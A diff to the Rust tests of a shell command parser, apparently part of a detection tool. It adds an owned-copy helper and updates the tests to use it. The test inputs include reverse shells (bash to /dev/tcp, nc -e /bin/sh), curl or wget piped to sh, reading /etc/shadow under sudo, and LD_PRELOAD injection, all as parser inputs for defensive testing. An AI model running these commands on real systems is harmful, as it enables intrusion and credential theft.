@@ -4,17 +4,48 @@ fn args(words: &[&str]) -> Vec<String> {
     words.iter().map(|w| w.to_string()).collect()
 }
 
-/// `sh -c SCRIPT`, parsed.
-fn sh(script: &str) -> CommandLine {
-    parse_exec(&args(&["sh", "-c", script]))
+/// [`parse_exec`] with every word copied, so the result outlives the argv (the tests build
+/// argv in temporaries).
+fn parsed(argv: &[String]) -> CommandLine<'static> {
+    fn own(words: Vec<Arg>) -> Vec<Arg<'static>> {
+        words
+            .into_iter()
+            .map(|w| Arg::Owned(w.into_owned()))
+            .collect()
+    }
+    let line = parse_exec(argv);
+    let commands = line.commands.into_iter().map(|c| SimpleCommand {
+        argv: own(c.argv),
+        wrappers: c
+            .wrappers
+            .into_iter()
+            .map(|w| Wrapper { argv: own(w.argv) })
+            .collect(),
+        assignments: c.assignments,
+        redirects: c.redirects,
+        joiner: c.joiner,
+        depth: c.depth,
+        in_substitution: c.in_substitution,
+        class: c.class,
+        program_at: c.program_at,
+    });
+    CommandLine {
+        commands: commands.collect(),
+        truncated: line.truncated,
+    }
 }
 
-fn programs(line: &CommandLine) -> Vec<&str> {
+/// `sh -c SCRIPT`, parsed.
+fn sh(script: &str) -> CommandLine<'static> {
+    parsed(&args(&["sh", "-c", script]))
+}
+
+fn programs<'a>(line: &'a CommandLine) -> Vec<&'a str> {
     line.commands.iter().map(|c| c.program()).collect()
 }
 
 /// The first command running `program`.
-fn find<'a>(line: &'a CommandLine, program: &str) -> &'a SimpleCommand {
+fn find<'a>(line: &'a CommandLine<'a>, program: &str) -> &'a SimpleCommand<'a> {
     line.commands
         .iter()
         .find(|c| c.program() == program)
@@ -23,7 +54,7 @@ fn find<'a>(line: &'a CommandLine, program: &str) -> &'a SimpleCommand {
 
 #[test]
 fn plain_exec_is_the_only_command() {
-    let line = parse_exec(&args(&[
+    let line = parsed(&args(&[
         "/usr/bin/nc",
         "-e",
         "/bin/sh",
@@ -46,7 +77,7 @@ fn plain_exec_is_the_only_command() {
 
 #[test]
 fn empty_argv_still_has_the_exec() {
-    let line = parse_exec(&[]);
+    let line = parsed(&[]);
     assert_eq!(line.commands.len(), 1);
     assert_eq!(line.commands[0].program(), "");
 }
@@ -67,7 +98,7 @@ fn curl_piped_to_sh() {
 
 #[test]
 fn wget_piped_to_bash_via_bash_lc() {
-    let line = parse_exec(&args(&["/bin/bash", "-lc", "wget -qO- x | bash"]));
+    let line = parsed(&args(&["/bin/bash", "-lc", "wget -qO- x | bash"]));
     assert_eq!(programs(&line), ["bash", "wget", "bash"]);
     assert_eq!(line.commands[2].joiner, Joiner::Pipe);
 }
@@ -83,7 +114,7 @@ fn combined_and_separate_shell_flags() {
         args(&["-bash", "-c", "id"]),
         args(&["busybox", "sh", "-c", "id"]),
     ] {
-        let line = parse_exec(&argv);
+        let line = parsed(&argv);
         assert_eq!(programs(&line).last(), Some(&"id"), "{argv:?}");
         assert_eq!(line.commands.last().map(|c| c.depth), Some(1), "{argv:?}");
     }
@@ -91,7 +122,7 @@ fn combined_and_separate_shell_flags() {
 
 #[test]
 fn shell_running_a_file_is_not_parsed() {
-    let line = parse_exec(&args(&["bash", "-x", "script.sh", "-c", "id"]));
+    let line = parsed(&args(&["bash", "-x", "script.sh", "-c", "id"]));
     assert_eq!(programs(&line), ["bash"]);
 }
 
@@ -165,7 +196,7 @@ fn arithmetic_is_not_a_command() {
 
 #[test]
 fn bash_i_dup_to_dev_tcp() {
-    let line = parse_exec(&args(&[
+    let line = parsed(&args(&[
         "bash",
         "-c",
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -257,7 +288,7 @@ fn single_quotes_keep_operators() {
 
 #[test]
 fn double_quotes_inside_sh_c() {
-    let line = parse_exec(&args(&["sh", "-c", "echo 'a | b'"]));
+    let line = parsed(&args(&["sh", "-c", "echo 'a | b'"]));
     assert_eq!(line.commands[1].argv, args(&["echo", "a | b"]));
 }
 
@@ -298,7 +329,7 @@ fn keyword_in_quotes_is_a_word() {
 
 #[test]
 fn nested_shell_strings() {
-    let line = parse_exec(&args(&["sh", "-c", "bash -c 'nc -e /bin/sh h 1'"]));
+    let line = parsed(&args(&["sh", "-c", "bash -c 'nc -e /bin/sh h 1'"]));
     assert_eq!(programs(&line), ["sh", "bash", "nc"]);
     let depths: Vec<u8> = line.commands.iter().map(|c| c.depth).collect();
     assert_eq!(depths, [0, 1, 2]);
@@ -325,7 +356,7 @@ fn quote(s: &str) -> String {
 
 #[test]
 fn env_assignments_and_options() {
-    let line = parse_exec(&args(&["env", "LD_PRELOAD=/tmp/x.so", "ls"]));
+    let line = parsed(&args(&["env", "LD_PRELOAD=/tmp/x.so", "ls"]));
     let ls = &line.commands[0];
     assert_eq!(ls.argv, args(&["ls"]));
     assert_eq!(
@@ -334,7 +365,7 @@ fn env_assignments_and_options() {
     );
     assert_eq!(ls.wrappers, ["env"]);
 
-    let line = parse_exec(&args(&[
+    let line = parsed(&args(&[
         "/usr/bin/env",
         "-i",
         "-u",
@@ -352,14 +383,14 @@ fn env_assignments_and_options() {
 
 #[test]
 fn env_alone_is_the_program() {
-    let line = parse_exec(&args(&["env", "A=1"]));
+    let line = parsed(&args(&["env", "A=1"]));
     assert_eq!(line.commands[0].argv, args(&["env", "A=1"]));
     assert!(line.commands[0].wrappers.is_empty());
 }
 
 #[test]
 fn env_split_string() {
-    let line = parse_exec(&args(&["env", "-S", "nc -lp 4444"]));
+    let line = parsed(&args(&["env", "-S", "nc -lp 4444"]));
     assert_eq!(line.commands[0].argv, args(&["nc", "-lp", "4444"]));
 }
 
@@ -387,7 +418,7 @@ fn quoted_name_is_not_an_assignment() {
 
 #[test]
 fn busybox_applet() {
-    let line = parse_exec(&args(&["busybox", "nc", "10.0.0.1", "4444", "-e", "sh"]));
+    let line = parsed(&args(&["busybox", "nc", "10.0.0.1", "4444", "-e", "sh"]));
     assert_eq!(
         line.commands[0].argv,
         args(&["nc", "10.0.0.1", "4444", "-e", "sh"])
@@ -397,7 +428,7 @@ fn busybox_applet() {
 
 #[test]
 fn chained_wrappers_outermost_first() {
-    let line = parse_exec(&args(&[
+    let line = parsed(&args(&[
         "timeout", "10", "nohup", "nice", "-n", "5", "nc", "-e", "/bin/sh", "h", "1",
     ]));
     let nc = &line.commands[0];
@@ -434,7 +465,7 @@ fn wrapper_options_with_arguments() {
         (&["builtin", "id"], &["builtin"]),
     ];
     for (argv, wrappers) in cases {
-        let line = parse_exec(&args(argv));
+        let line = parsed(&args(argv));
         assert_eq!(line.commands[0].argv, args(&["id"]), "{argv:?}");
         assert_eq!(line.commands[0].wrappers, args(wrappers), "{argv:?}");
     }
@@ -450,7 +481,7 @@ fn wrappers_without_a_command_are_programs() {
         &["timeout", "10"],
         &["busybox", "--list"],
     ] {
-        let line = parse_exec(&args(argv));
+        let line = parsed(&args(argv));
         assert!(line.commands[0].wrappers.is_empty(), "{argv:?}");
         assert_eq!(line.commands[0].argv, args(argv));
     }
@@ -458,7 +489,7 @@ fn wrappers_without_a_command_are_programs() {
 
 #[test]
 fn sudo_sh_c_string() {
-    let line = parse_exec(&args(&["sudo", "sh", "-c", "cat /etc/shadow > /tmp/s"]));
+    let line = parsed(&args(&["sudo", "sh", "-c", "cat /etc/shadow > /tmp/s"]));
     assert_eq!(line.commands[0].wrappers, ["sudo"]);
     let cat = find(&line, "cat");
     assert_eq!(cat.redirects[0].target, "/tmp/s");
@@ -467,11 +498,11 @@ fn sudo_sh_c_string() {
 
 #[test]
 fn su_c_and_script_c_strings() {
-    let line = parse_exec(&args(&["su", "-", "root", "-c", "id; nc -l 1"]));
+    let line = parsed(&args(&["su", "-", "root", "-c", "id; nc -l 1"]));
     assert_eq!(programs(&line), ["su", "id", "nc"]);
-    let line = parse_exec(&args(&["script", "-qc", "/bin/bash -i", "/dev/null"]));
+    let line = parsed(&args(&["script", "-qc", "/bin/bash -i", "/dev/null"]));
     assert_eq!(programs(&line), ["script", "bash"]);
-    let line = parse_exec(&args(&["flock", "/tmp/l", "-c", "curl x | sh"]));
+    let line = parsed(&args(&["flock", "/tmp/l", "-c", "curl x | sh"]));
     assert_eq!(programs(&line), ["flock", "curl", "sh"]);
 }
 
@@ -485,13 +516,13 @@ fn eval_parses_its_arguments() {
 
 #[test]
 fn watch_runs_a_shell_string() {
-    let line = parse_exec(&args(&["watch", "-n", "5", "curl -s x | sh"]));
+    let line = parsed(&args(&["watch", "-n", "5", "curl -s x | sh"]));
     assert_eq!(programs(&line), ["watch", "curl", "sh"]);
 }
 
 #[test]
 fn capsh_runs_bash() {
-    let line = parse_exec(&args(&["capsh", "--drop=cap_sys_admin", "--", "-c", "id"]));
+    let line = parsed(&args(&["capsh", "--drop=cap_sys_admin", "--", "-c", "id"]));
     assert_eq!(programs(&line), ["bash", "id"]);
     assert_eq!(line.commands[0].wrappers, ["capsh"]);
 }
@@ -507,7 +538,7 @@ fn xargs_into_sh_c() {
 fn wrappers_are_bounded() {
     let mut argv = vec!["nohup"; 100];
     argv.push("id");
-    let line = parse_exec(&args(&argv));
+    let line = parsed(&args(&argv));
     assert!(line.truncated);
     assert_eq!(line.commands[0].wrappers.len(), MAX_WRAPPERS);
 }
@@ -534,7 +565,7 @@ fn case_inside_substitution_keeps_parens() {
     let line = sh("echo $(case x in x) id;; esac) after");
     assert_eq!(programs(&line), ["sh", "id", "echo"]);
     assert_eq!(
-        line.commands[2].argv.last().map(String::as_str),
+        line.commands[2].argv.last().map(|a| a.as_ref()),
         Some("after")
     );
 }
@@ -618,7 +649,7 @@ fn pipe_source_skips_substitutions_and_nested_strings() {
     assert_eq!(programs(&line), ["sh", "curl", "id", "sh"]);
     assert_eq!(line.pipe_source(3).map(|c| c.program()), Some("curl"));
     assert!(line.pipe_source(1).is_none());
-    let line = parse_exec(&args(&["sh", "-c", "sh -c 'a' | b"]));
+    let line = parsed(&args(&["sh", "-c", "sh -c 'a' | b"]));
     assert_eq!(programs(&line), ["sh", "sh", "a", "b"]);
     assert_eq!(line.pipe_source(3).map(|c| c.program()), Some("sh"));
 }
@@ -628,9 +659,9 @@ fn pipe_source_skips_substitutions_and_nested_strings() {
 #[test]
 fn one_mib_single_argument() {
     let big = "a".repeat(1 << 20);
-    let line = parse_exec(&args(&["echo", &big]));
+    let line = parsed(&args(&["echo", &big]));
     assert!(line.truncated);
-    let total: usize = line.commands[0].argv.iter().map(String::len).sum();
+    let total: usize = line.commands[0].argv.iter().map(|a| a.len()).sum();
     assert!(total <= MAX_ARGV_BYTES);
 
     let line = sh(&big);
@@ -645,7 +676,7 @@ fn one_mib_single_argument() {
 #[test]
 fn multibyte_argument_cut_on_a_char_boundary() {
     let big = "é".repeat(MAX_ARGV_BYTES);
-    let line = parse_exec(&args(&["sh", "-c", &big]));
+    let line = parsed(&args(&["sh", "-c", &big]));
     assert!(line.truncated);
     assert!(line.commands[0].argv[2].chars().all(|c| c == 'é'));
 }
@@ -706,7 +737,7 @@ fn lone_backslash_and_stray_operators() {
 
 #[test]
 fn invalid_and_control_characters() {
-    let line = parse_exec(&args(&[
+    let line = parsed(&args(&[
         "sh",
         "-c",
         "echo \u{0}\u{1b}[31m \u{fffd} \u{10ffff}; id",
@@ -753,14 +784,19 @@ mod properties {
     }
 
     fn check(argv: &[String]) {
-        let line = parse_exec(argv);
+        let line = parsed(argv);
         let input: usize = argv.iter().map(|a| a.len() + 1).sum();
         assert!(!line.commands.is_empty());
         assert!(line.commands.len() <= MAX_COMMANDS);
         for c in &line.commands {
             assert!(c.depth <= MAX_DEPTH);
             assert!(c.wrappers.len() <= MAX_WRAPPERS);
-            for a in c.argv.iter().chain(c.redirects.iter().map(|r| &r.target)) {
+            for a in c
+                .argv
+                .iter()
+                .map(|a| a.as_ref())
+                .chain(c.redirects.iter().map(|r| r.target.as_str()))
+            {
                 assert!(a.len() <= input, "{} > {input}", a.len());
             }
         }
